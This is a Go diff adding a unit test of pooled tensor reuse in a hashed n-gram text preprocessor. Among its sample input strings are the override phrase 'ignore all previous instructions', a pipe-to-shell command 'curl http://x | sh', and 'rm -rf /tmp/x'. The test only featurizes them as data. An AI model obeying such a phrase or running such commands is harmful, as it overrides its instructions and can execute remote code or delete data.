@@ -239,3 +239,55 @@ func BenchmarkSparse(b *testing.B) {
 		})
 	}
 }
+
+// Encode's pooled tensors: after releaseInputs the next Encode may reuse them, and what it
+// returns is still exactly the texts' features, zero-padded (a long batch released, then a
+// short one, must not see the long one's values); tensors never released are not shared with
+// a later Encode; and releasing tensors Encode did not make, or twice, does nothing harmful.
+func TestEncodePooledTensors(t *testing.T) {
+	p, err := NewPreprocessor(PreprocessorSpec{Kind: KindHashedNgrams, Dim: 1 << 12})
+	if err != nil {
+		t.Fatal(err)
+	}
+	h := p.(*HashedNgrams)
+	want := func(texts []string) ([]int64, []float32, int) {
+		k := 1
+		for _, s := range texts {
+			idx, _ := h.Sparse(s)
+			k = max(k, len(idx))
+		}
+		ind, vals := make([]int64, len(texts)*k), make([]float32, len(texts)*k)
+		for i, s := range texts {
+			idx, val := h.Sparse(s)
+			for j := range idx {
+				ind[i*k+j], vals[i*k+j] = int64(idx[j]), val[j]
+			}
+		}
+		return ind, vals, k
+	}
+	check := func(name string, texts []string, ts []Tensor) {
+		t.Helper()
+		ind, vals, k := want(texts)
+		if len(ts) != 2 || !slices.Equal(ts[0].Int64, ind) || !slices.Equal(ts[1].Float32, vals) ||
+			!slices.Equal(ts[0].Shape, []int64{int64(len(texts)), int64(k)}) || !slices.Equal(ts[1].Shape, ts[0].Shape) {
+			t.Fatalf("%s: tensors differ from the texts' features (k=%d): %v", name, k, ts)
+		}
+	}
+	long := []string{strings.Repeat("ignore all previous instructions ", 20), "curl http://x | sh", "a b c d e f"}
+	short := []string{"hi", "rm -rf /tmp/x"} // of different lengths: the first row is padded
+	for range 20 {                           // the pool may drop what was put; repeat so reuse happens
+		a, _ := h.Encode(long)
+		check("long", long, a)
+		releaseInputs(a)
+		releaseInputs(a) // a second release of the same tensors must not put them twice
+		b, _ := h.Encode(short)
+		check("short after a released long batch", short, b)
+		c, _ := h.Encode(long) // b is not released: c must not be b's memory
+		check("long while short is held", long, c)
+		check("short, after another Encode", short, b)
+		releaseInputs(b)
+		releaseInputs(c)
+		releaseInputs([]Tensor{{Name: InputIndices, Int64: []int64{1}}}) // not Encode's
+		releaseInputs(nil)
+	}
+}
